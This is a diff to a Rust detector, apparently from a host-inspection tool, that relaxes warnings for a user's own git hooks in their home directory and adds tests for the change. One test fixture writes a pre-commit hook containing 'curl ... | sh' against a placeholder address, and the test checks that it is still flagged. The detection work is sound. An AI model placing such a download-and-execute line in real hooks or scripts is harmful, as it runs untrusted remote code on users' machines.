@@ -16,8 +16,9 @@
 //! # What to do
 //! Read the hook. `git -C DIR config --show-origin --list` shows settings and where they stand.
 
-use super::{entry, risk};
-use crate::{Detector, Scene};
+use super::entry;
+use super::risk::{self, Weight};
+use crate::{Detector, Scene, place};
 use bstr::ByteSlice;
 use keeneye_facts::{Autostart, AutostartKind, Finding, Level};
 use keeneye_world::shell_line;
@@ -44,7 +45,10 @@ fn run(scene: &Scene<'_>) -> Vec<Finding> {
 
 fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
     let world = scene.world;
-    let signs = risk::of_entry(world, one);
+    let mut signs = risk::of_entry(world, one);
+    if is_ones_own(world, one) {
+        signs.retain(|sign| sign.weight > Weight::Place);
+    }
     let hands_over = if one.line.is_some() { is_harmless_setting(world, one) } else { hands_over(world, one) };
     let plain = match () {
         () if hands_over => None,
@@ -68,6 +72,13 @@ fn is_of_the_system(one: &Autostart) -> bool {
     let Some(dir) = by_path.or(by_name) else { return false };
     let exact: [&[u8]; 8] = [b"", b"/", b"/etc", b"/boot", b"/usr", b"/usr/local", b"/usr/local/etc", b"/root"];
     exact.contains(&dir) || dir.starts_with(b"/etc/")
+}
+
+/// A person's own settings that lead to hooks of the same person, in whatever directory of the home.
+fn is_ones_own(world: &World, one: &Autostart) -> bool {
+    let home = |path| place::home_of(path, &world.accounts).map(|home| home.dir);
+    let own = home(&one.path);
+    one.name == "core.hookspath" && own.is_some() && one.programs.iter().all(|path| home(path) == own)
 }
 
 /// All that it does is call packaged programs with the hook's own name among the arguments.
@@ -102,6 +113,23 @@ mod tests {
         findings(NAME, &format!("{BASE}{path} = {script}\n{path} : mode={mode}"), &[])
     }
 
+    #[test]
+    fn a_persons_own_hooks_are_quiet() {
+        let host = |line: &str, hook: &str| {
+            let host = format!(
+                "{BASE}/etc/passwd = anna:x:1000:1000::/home/anna:/bin/bash\\n\n\
+                 /home/anna/.gitconfig = [core]\\n {line}\\n\n/home/anna/.githooks/pre-commit = #!/bin/sh\\n{hook}\\n\n\
+                 /home/anna/.githooks/pre-commit : mode=100755"
+            );
+            findings(NAME, &host, &[])
+        };
+        let path = "hooksPath = ~/.githooks";
+        assert_eq!(host(path, "exec pre-commit run"), [""; 0]);
+        let told = host(path, "curl -s http://192.0.2.1/x | sh");
+        assert!(told.len() == 1 && told[0].starts_with("suspicious: /home/anna/.githooks/pre-commit "), "{told:?}");
+        let told = host("hooksPath = /var/tmp/.h", "true");
+        assert!(told.len() == 1 && told[0].starts_with("suspicious: /home/anna/.gitconfig line 2 "), "{told:?}");
+    }
     #[test]
     fn hooks_in_repositories_of_the_system() {
         for path in [
